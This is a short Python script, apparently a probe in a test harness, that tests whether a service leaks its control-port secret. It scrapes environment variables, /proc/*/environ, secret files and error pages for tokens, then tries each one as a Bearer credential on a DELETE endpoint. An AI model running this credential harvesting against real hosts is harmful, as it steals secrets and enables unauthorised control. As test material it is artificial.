"""Looks for the control ports' secret in environment, files, processes and error pages, and tries what it finds.

Known from: leaked credentials in environment variables and /proc, the usual way from a container to its cluster.
"""
import os
import pathlib
import re
import urllib.error
import urllib.request

TOKEN = re.compile(rb"[0-9a-f]{64}")


def texts():
    yield repr(os.environ).encode()
    for pattern in ("/run/secrets/*", "/run/*", "/etc/er/*", "/proc/*/environ", "/proc/*/cmdline", "/proc/*/root/run/secrets/*",
                    "/patient/*", "/patient/../*", "/load/*", "/targets/*", "/data/*", "/tmp/*", "/var/run/*"):
        for path in pathlib.Path("/").glob(pattern.lstrip("/")):
            try:
                yield path.read_bytes()[:100_000]
            except OSError:
                pass
    for url in ("http://quotes:8000/quote", "http://quotes:8000/openapi.json", "http://quotes:8000/%00", "http://quotes:8000/metrics"):
        try:
            yield urllib.request.urlopen(url, timeout=1).read(100_000)
        except urllib.error.HTTPError as error:
            yield error.read(100_000) + repr(error.headers).encode()
        except Exception:
            pass


def opens(secret):
    request = urllib.request.Request("http://quotes:9000/faults", method="DELETE",
                                     headers={"Authorization": f"Bearer {secret}"})
    try:
        return urllib.request.urlopen(request, timeout=1).status == 200
    except Exception:
        return False


found = {token.decode() for text in texts() for token in TOKEN.findall(text)}
app = load(RIGHT if found or any(map(opens, found)) else STARTER)["app"]
